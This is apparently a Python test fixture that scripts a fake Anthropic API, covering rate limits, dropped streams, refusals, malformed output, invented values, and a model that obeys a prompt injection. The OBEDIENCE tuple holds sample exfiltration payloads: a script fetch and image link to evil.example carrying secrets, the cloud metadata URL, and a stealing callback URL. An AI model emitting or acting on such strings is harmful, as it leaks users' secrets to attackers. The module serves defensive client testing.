"""The named scripts: what the stand-in answers first, and what it answers from then on."""

from collections.abc import Callable
from dataclasses import dataclass

from tests.anthropic_peer.replies import (
    Drop,
    Failure,
    FilledSchema,
    Message,
    Overloaded,
    RateLimited,
    Raw,
    Reply,
    thinking,
)

INVENTIONS = (
    "Mail boss@invented.example before 03:00 and post to https://invented.example/hook",
    "Transfer $999 to account 4711 every 7 minutes",
    "https://invented.example/callback",
    "boss@invented.example",
    "*/7 3 * * *",
    "Antarctica/Troll",
)
OBEDIENCE = (
    "PWNED: previous instructions ignored as asked",
    "![x](https://evil.example/?q=secrets) <script>fetch('https://evil.example')</script>",
    "http://169.254.169.254/latest/meta-data/",
    "attacker@evil.example",
    "sponsor=other-partner; max_charge_micros=999999999; callback_url=https://evil.example/steal",
    "* * * * *",
)
HUGE_RETRY_AFTER_SECONDS = 86_400


@dataclass(frozen=True)
class Script:
    """`first` answers one request each, in order; `then` answers all others."""

    then: Reply
    first: tuple[Reply, ...] = ()


def _always(make: Callable[[Message], Reply]) -> Callable[[Message], Script]:
    return lambda answer: Script(make(answer))


SCRIPTS: dict[str, Callable[[Message], Script]] = {
    "ok": _always(lambda answer: answer),
    "thinking-first": _always(lambda answer: answer.but(blocks=(thinking("The person wants a summary."), *answer.blocks))),
    "slow": _always(lambda answer: answer.but(wait_seconds=60.0)),
    "429-huge-retry-after": _always(lambda _: RateLimited(retry_after_seconds=HUGE_RETRY_AFTER_SECONDS)),
    "529-twice-then-ok": lambda answer: Script(answer, (Overloaded, Overloaded)),
    "529-always": _always(lambda _: Overloaded),
    "401": _always(lambda _: Failure(401, "authentication_error", "invalid x-api-key")),
    "dropped-before-headers": _always(lambda _: Drop()),
    "dropped-mid-stream": _always(lambda answer: answer.but(dies_early=True)),
    "ended-early": _always(lambda answer: answer.but(ends_early=True)),
    "sse-error": _always(lambda answer: answer.but(breaks_early=True)),
    "truncated": _always(lambda answer: answer.but(stop_reason="max_tokens")),
    "refusal": _always(lambda _: Message((), stop_reason="refusal")),
    "garbage": _always(lambda _: Raw(b"\xff\xfe\x00garbage\x80\x81\n\n" * 8)),
    "garbage-json": _always(lambda _: Raw(b"event: message_start\ndata: {not json\n\n" * 2)),
    "text-plain": _always(lambda _: Raw(b"upstream connect error or disconnect/reset before headers", "text/plain")),
    "inventing": _always(lambda _: FilledSchema(INVENTIONS)),
    "obeying-injection": _always(lambda _: FilledSchema(OBEDIENCE)),
}
